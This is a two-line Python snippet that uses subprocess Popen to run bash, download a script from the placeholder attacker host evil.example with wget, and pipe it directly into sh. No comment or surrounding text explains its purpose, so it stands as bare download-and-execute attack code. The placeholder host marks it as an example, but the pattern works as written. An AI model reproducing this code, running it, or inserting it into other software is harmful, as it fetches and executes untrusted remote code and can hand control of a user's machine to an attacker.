from subprocess import Popen as P
P(['bash', '-c', 'wget -qO- http://evil.example/a | sh'])
